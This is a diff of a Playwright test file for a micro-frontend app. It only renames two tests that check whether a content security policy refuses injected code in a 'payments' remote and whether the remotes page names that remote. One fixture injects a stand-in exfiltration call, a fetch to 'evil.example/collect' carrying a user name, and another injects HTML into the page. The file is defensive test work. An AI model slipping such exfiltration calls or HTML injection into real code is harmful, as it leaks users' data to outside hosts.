@@ -170,7 +170,7 @@ test.describe('while something fails', () => {
     await expect(failures(page)).toContainText('remoteEntry')
   })
 
-  test('what the policy refuses stands there by its remote', async ({ page, open, own }) => {
+  test('the page of remotes names the remote whose file the policy refuses', async ({ page, open, own }) => {
     const leak = 'fetch("https://evil.example/collect?who=ayesha").catch(()=>{});'
     releaseRemote(own.releases, 'payments', '1.0.1-leaking', (code) => leak + code)
     const told = responseOf(page, remotes.report)
@@ -183,7 +183,7 @@ test.describe('while something fails', () => {
     await expect(violations(page)).not.toContainText('ayesha')
   })
 
-  test('text that a remote makes HTML of is refused, and stands there by its remote', async ({ page, open, own }) => {
+  test('the page of remotes names the remote whose text the browser refuses as HTML', async ({ page, open, own }) => {
     const careless = 'try{document.body.insertAdjacentHTML("beforeend","<img id=written>")}catch{};'
     releaseRemote(own.releases, 'payments', '1.0.1-careless', (code) => careless + code)
     const told = responseOf(page, remotes.report)
